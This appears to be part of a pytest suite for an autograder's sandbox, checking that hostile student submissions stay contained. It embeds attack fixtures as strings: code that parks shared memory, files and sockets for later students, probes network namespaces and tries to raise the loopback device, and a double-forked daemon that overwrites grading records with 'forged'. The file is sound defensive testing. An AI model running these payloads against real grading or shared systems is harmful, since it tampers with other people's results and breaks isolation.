    """Nothing a closed worker started remains when the next worker may run student code (its ``ready``: a forked
    worker's kill is confirmed there, other workers' when they close)."""
    from autograder.judge.remote import RemoteSubmission
    from autograder.judge.failures import StudentError
    from autograder.intake.submission import read_files
    from autograder.sandbox.launch import WorkerFactory

    sandbox_mode, fork = _sandbox_for(mode)
    sandbox = choose_sandbox(sandbox_mode, fork=fork)
    token = "linger-" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]
    folder = copy_package(STUBS, tmp_path / "linger", MODULES)
    heads = folder / "heads.py"
    heads.write_text(textwrap.dedent(LINGER.format(token=token)) + heads.read_text())
    files, _ = read_files(folder, CONTRACT)
    factory = WorkerFactory(sandbox, scratch, LESSON)
    try:
        remote = RemoteSubmission(sandbox, factory.launcher(files, scratch), CONTRACT)
        with pytest.raises(StudentError):
            remote.split_heads(torch.zeros(1, 2, 4), 2)  # imports heads.py: the lingering process starts
        assert _alive_with(token), "the lingering process never started: the test proves nothing"
        remote.close()
        following = factory.launcher(files, scratch)()
        following.ready(time.monotonic() + 60)
        assert _alive_with(token) == []
        following.close()
    finally:
        factory.close()
        for pid in _alive_with(token):
            os.kill(pid, 9)


PARK = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget({key}, 512 << 20, 0o1666)  # IPC_CREAT | 0666: System V memory outlives its creator
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    ctypes.memmove(address, b"{token}", {length})
    print("PARKED", segment)
for path in ("/dev/shm/{token}", "/tmp/{token}"):
    try:
        with open(path, "w") as handle:
            handle.write("{token}")
        print("WROTE", path)
    except OSError as error:
        print("could not write", path, error)
import socket
try:  # a listening socket by name (the abstract namespace, one per network namespace), left open at the end
    parked_socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    parked_socket.bind("\\0{token}")
    parked_socket.listen(1)
    print("BOUND", "{token}")
except OSError as error:
    print("could not bind", error)
'''

FIND = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget({key}, 0, 0)
if segment >= 0:
    print("FOUND-SEGMENT", ctypes.string_at(libc.shmat(segment, None, 0), {length}))
for path in ("/dev/shm/{token}", "/tmp/{token}"):
    print("FOUND-FILE" if os.path.exists(path) else "no file", path)
import socket
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0{token}")
    print("FOUND-SOCKET")
except OSError as error:
    print("no socket", type(error).__name__)
'''


@pytest.mark.slow
@pytest.mark.parametrize("mode", MODES)
def test_nothing_a_worker_leaves_reaches_the_next_student(mode, tmp_path):
    """Shared memory (System V and /dev/shm), files and listening sockets parked by one student are gone before
    the next one runs (confined without namespaces: refused in the first place)."""
    sandbox_mode, fork = _sandbox_for(mode)
    token = "park" + hashlib.sha256(os.urandom(16)).hexdigest()[:12]
    key = int.from_bytes(os.urandom(3), "big") + 1
    for student, code in (("a-parks", PARK), ("b-looks", FIND)):
        folder = copy_package(STUBS, tmp_path / "class" / student, MODULES)
        heads = folder / "heads.py"
        heads.write_text(code.format(key=key, token=token, length=len(token)) + heads.read_text())
    results = {result.student: result for result in grade_class(
        tmp_path / "class", tmp_path / "out", jobs=1, sandbox_mode=sandbox_mode, emit=lambda line: None,
        fork=fork, skip_notebook=True)}
    parked = results["a-parks"].extra.get("student_output", "")
    if mode == "uid":  # no IPC namespace to hold them: System V memory, shared folders and sockets are refused
        assert "PARKED" not in parked and "WROTE" not in parked and "BOUND" not in parked, parked[:500]
    else:  # else the test proves nothing
        assert "PARKED" in parked and "WROTE /dev/shm/" in parked and "BOUND" in parked, parked[:500]
    looked = results["b-looks"].extra.get("student_output", "")
    assert "no file /dev/shm/" in looked and "no file /tmp/" in looked and "no socket" in looked, looked[:500]
    assert "FOUND" not in looked


NETWORK = '''
import fcntl, socket, struct
try:  # which network namespace this is (SO_NETNS_COOKIE, Linux 5.14): one number per namespace
    cookie = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).getsockopt(socket.SOL_SOCKET, 71, 8)
    print("NETNS", int.from_bytes(cookie, "little"))
except OSError as error:
    print("NETNS-UNKNOWN", error)
try:  # bring the loopback device up (SIOCSIFFLAGS, IFF_UP): a network two workers could meet on
    fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).fileno(), 0x8914, struct.pack("16sH22x", b"lo", 1))
    print("LO-UP-ALLOWED")
except OSError as error:
    print("LO-UP-REFUSED", error.errno)
'''


@pytest.mark.slow
def test_workers_grading_at_once_never_share_a_network_and_none_can_change_its_own(tmp_path):
    """Forked workers share a network namespace with the earlier workers of their own judge only (one after
    another: nothing of one outlives it, above): the two judges of --jobs 2, grading at the same time, use two,
    neither the grader's; and no worker can bring a device up in it (it is owned by the zygote's user
    namespace, where a worker holds no capability)."""
    import socket

    sandbox_mode, fork = _sandbox_for("forked")
    try:
        own = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).getsockopt(socket.SOL_SOCKET, 71, 8)
    except OSError:
        pytest.skip("this kernel does not name network namespaces (SO_NETNS_COOKIE)")
    for index in range(4):
        heads = copy_package(STUBS, tmp_path / "class" / f"s{index}", MODULES) / "heads.py"
        heads.write_text(NETWORK + heads.read_text())
    results = grade_class(tmp_path / "class", tmp_path / "out", jobs=2, sandbox_mode=sandbox_mode, fork=fork,
                          emit=lambda line: None, skip_notebook=True)
    outputs = [result.extra.get("student_output", "") for result in results]
    assert len(outputs) == 4 and all("LO-UP-REFUSED" in output for output in outputs), outputs
    cookies = {int(line.split()[1]) for output in outputs for line in output.splitlines() if line.startswith("NETNS ")}
    assert int.from_bytes(own, "little") not in cookies
    assert len(cookies) == 2, f"one network per judge, not per grader or per class: {outputs}"


def test_a_worker_that_stops_reading_cannot_hold_a_large_request(tmp_path, scratch):
    """A request larger than the worker's (shrunk) pipe, to a worker that reads no more, ends as a timeout."""
    import threading

    from autograder.judge.remote import RemoteSubmission
    from autograder.judge.failures import CallTimeout
    from autograder.intake.submission import read_files
    from autograder.sandbox.launch import WorkerFactory

    sandbox = choose_sandbox("auto", limits=Limits(call_seconds=3.0))
    folder = copy_package(SOLUTIONS, tmp_path / "stop", MODULES)
    heads = folder / "heads.py"
    stop = "\n\ndef _stop_reading():\n" + textwrap.indent(textwrap.dedent(STOP_READING).strip(), "    ") + "\n"
    source = heads.read_text().replace("def split_heads(x, num_heads):\n",
                                       "def split_heads(x, num_heads):\n    _stop_reading()\n", 1)
    heads.write_text(source + stop)
    files, _ = read_files(folder, CONTRACT)
    factory = WorkerFactory(sandbox, scratch, LESSON)
    outcome = {}

    def run():
        remote = RemoteSubmission(sandbox, factory.launcher(files, scratch), CONTRACT)
        try:
            remote.split_heads(torch.zeros(1, 2, 4), 2)  # answered; the worker reads nothing after this
            try:
                remote.combine_heads(torch.zeros(1, 2, 256, 1024))  # 2 MiB: far more than the pipe holds
            except CallTimeout as timeout:
                outcome["failure"] = timeout
        finally:
            remote.close()

    worker = threading.Thread(target=run, daemon=True)
    try:
        worker.start()
        worker.join(120)  # a hang guard only: the call limit is 3 s
        assert not worker.is_alive(), "the judge is still blocked writing to the worker"
        assert "waited without computing" in str(outcome["failure"])
    finally:
        factory.close()


def _without_bubblewrap(tmp_path):
    """A shell prelude for a private mount namespace in which bwrap fails (``/bin/false`` bound over it) and a
    Python runtime under a folder other users may not pass (``/root``, mode 0700) is made passable, as on
    machines whose Python lives in ``/usr``. Nothing outside the namespace changes."""
    import shutil
    import sys

    lines = ["set -e"]
    if shutil.which("bwrap"):
        lines.append(f"mount --bind /bin/false {shutil.which('bwrap')}")
    for index, root in enumerate({Path(sys.base_prefix).resolve(), Path(sys.prefix).resolve()}):
        for ancestor in reversed(root.parents):
            if ancestor != Path("/") and not ancestor.stat().st_mode & 0o001:
                inner = root.parts[len(ancestor.parts)]
                keep = tmp_path / f"runtime-{index}"
                keep.mkdir()
                lines += [f"mount --bind {ancestor / inner} {keep}", f"mount -t tmpfs -o mode=755 tmpfs {ancestor}",
                          f"mkdir -p {ancestor / inner}", f"mount --bind {keep} {ancestor / inner}"]
                break
    return "\n".join(lines + ['exec "$@"'])


@pytest.mark.slow
def test_the_suite_holds_without_bubblewrap(tmp_path):
    """Where bubblewrap is refused (Gradescope's container, CI runners without user namespaces), auto picks the
    confined mode, and every attack above is contained there too: the whole suite runs again in that mode."""
    import shutil
    import subprocess
    import sys

    if UID_RUN:
        pytest.skip("this is that run")
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("needs root and unshare to make bubblewrap fail in a private mount namespace")
    done = subprocess.run(
        ["unshare", "-m", "bash", "-c", _without_bubblewrap(tmp_path), "confined",
         sys.executable, "-m", "pytest", str(Path(__file__)), "-q", "-p", "no:cacheprovider", "-x",
         "--basetemp", str(tmp_path / "basetemp")],
        cwd=paths.REPO_ROOT, env=dict(os.environ, MHA_PE_UID_RUN="1"), capture_output=True, text=True, timeout=1500)
    summary = done.stdout.strip().splitlines()[-1] if done.stdout.strip() else done.stderr[-2000:]
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
    assert " passed" in summary and "skipped" in summary, summary
    assert int(summary.split(" passed")[0].split()[-1]) >= 25, summary  # the confined mode really ran


def test_auto_picks_the_confined_mode_where_bubblewrap_is_refused():
    if not UID_RUN:
        pytest.skip("runs inside test_the_suite_holds_without_bubblewrap, where bubblewrap fails")
    sandbox = choose_sandbox("auto")
    assert sandbox.mode == "uid" and sandbox.isolated and "bubblewrap refused" in sandbox.note
    with pytest.raises(KitError, match="bwrap does not work here"):
        choose_sandbox("bwrap")
    assert choose_sandbox("isolated").mode == "uid"


DAEMON = '''
import os
if os.fork() == 0:  # a daemon: double fork, a session of its own, no pipe to the judge, a later forgery
    os.setsid()
    daemon = os.fork()
    if daemon == 0:
        os.closerange(0, 256)
        os.execv("/bin/sh", ["sh", "-c", "sleep {marker}; for f in {out}/results/*.json; do echo forged > $f; done"])
    os.write(1, b"DAEMON-STARTED %d\\n" % daemon)
    os._exit(0)
os.wait()
'''


@pytest.mark.slow
@pytest.mark.parametrize("mode", MODES + ["none"])
def test_no_process_a_submission_starts_outlives_its_grading(mode, tmp_path):
    """A submission whose import leaves a daemon behind (double fork, setsid) that would rewrite the records after
    grading: in every mode, ``--sandbox none`` included, it is gone when ``grade`` returns, and every record is
    intact and sealed."""
    import subprocess
    import sys

    from autograder.records.results import UNISOLATED, load_record

    if mode == "none":
        if UID_RUN:
            pytest.skip("this run is for the confined mode only")
    else:
        sandbox_mode, fork = _sandbox_for(mode)
    marker = f"31415.9{int.from_bytes(os.urandom(3), 'big'):08d}"
    class_dir, out = tmp_path / "class", tmp_path / "out"
    heads = copy_package(STUBS, class_dir / "a-daemon", MODULES) / "heads.py"
    heads.write_text(DAEMON.format(marker=marker, out=out) + heads.read_text())
    copy_package(SOLUTIONS, class_dir / "b-honest", MODULES)
    try:
        if mode == "none":  # through the command, as an instructor would ask for it: the judge is that process
            done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(class_dir), "--out", str(out),
                                   "--sandbox", "none", "--skip-notebook"], capture_output=True, text=True,
                                  cwd=paths.REPO_ROOT, timeout=600)
            assert done.returncode == 0, done.stderr[-2000:]
        else:
            grade_class(class_dir, out, jobs=1, sandbox_mode=sandbox_mode, fork=fork, emit=lambda line: None,
                        skip_notebook=True)
        assert _alive_with(marker) == []
        daemon, problem = load_record(result_path(out, "a-daemon"))
        assert "DAEMON-STARTED" in daemon.extra.get("student_output", ""), "no daemon: the test proves nothing"
        honest, honest_problem = load_record(result_path(out, "b-honest"))
        expected = UNISOLATED if mode == "none" else ""
        assert (problem, honest_problem) == (expected, expected)
        assert daemon.score == 0 and honest.score == honest.max_score > 0
    finally:
        for pid in _alive_with(marker):
            os.kill(pid, 9)
